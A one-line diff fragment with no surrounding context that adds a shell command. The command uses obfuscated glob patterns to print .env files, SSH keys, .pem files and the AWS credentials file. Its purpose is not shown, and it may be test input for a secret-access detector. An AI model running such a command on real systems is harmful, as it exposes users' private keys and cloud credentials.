@@ -1,0 +1,1 @@
+cat .e* ~/.s?h/* ./[.]env **/*.pem {.env,.env.*} $HOME/.aws/credentials
